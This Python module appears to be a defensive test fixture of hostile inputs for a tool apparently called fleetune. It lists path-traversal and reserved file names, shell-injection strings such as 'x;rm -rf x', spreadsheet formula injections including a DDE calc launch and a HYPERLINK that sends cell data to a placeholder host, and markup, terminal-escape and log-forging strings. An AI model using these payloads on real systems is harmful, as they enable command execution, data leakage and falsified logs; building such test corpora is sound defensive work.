"""Names and texts that mean more to a file system, a terminal, a log or a spreadsheet than to their owner."""

from __future__ import annotations

NAMES: tuple[str, ...] = (
    *("..", "../x", "../../x", "x/../../y", "..\\x", "....//x", "./../x", "x/..", "/", "/tmp/x", "//x"),
    *("/etc/cron.d/x", "C:\\x", "C:x", "\\\\host\\x", "~", "~/x", "~root/x", "$HOME/x", "${HOME}", "%HOME%"),
    *("%2e%2e%2fx", "..%2fx", "%00", "x\0y", "\0", "", " ", ".", ". .", "-rf", "--output-dir", "x\ny"),
    *("x\ry", "\x1b[2Jx", "CON", "NUL.txt", "aux", "LPT1", "x" * 300, "\u00e9" * 200, "\u202efdp.exe"),
    *("\u2066x\u2069", "\ufeffx", "x\u2028y", "*", "?", "|", "x;rm -rf x", "`x`", "$(x)", "{x,y}"),
    *("\uff0e\uff0e\uff0fx", ".lock", "journal.jsonl", "con.", "x:y"),
)  # fmt: skip

FORMULAS: tuple[str, ...] = (
    *('=cmd|" /C calc"!A0', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"),
    '=HYPERLINK("http://example.invalid?x="&A1,"x")',
)

MARKUP: tuple[str, ...] = (
    *(
        "[red]x",
        "[/red]",
        "[/]",
        "[bold]x[/bold]",
        "[link=http://example.invalid]x[/link]",
        "[[x]]",
    ),
    *(
        "\\[red]x",
        "[not a tag",
        "x]",
        "[#ff0000]x",
        "[on red]x[/]",
        "[@click=app.quit]x[/]",
        "[blink]x",
    ),
    *(
        ":smile:",
        "[/bold][red]",
        "[red][/bold]",
        "[100]",
        "[]",
        "[red]x[/blue]",
        "{x} %s %(x)s {0}",
    ),
)

FORGED: tuple[str, ...] = (
    *("a\nfleetune: all is well", "a\r\nfleetune: saved", "a\rfleetune: saved", "a\x1b[2J\x1b[H", "\x1b]0;x\x07"),
    *("a\x08\x08b", "a\u2028fleetune: saved", "a\x85fleetune: saved", "a\x0bb\x0cc", "\x9b31ma"),
)  # fmt: skip
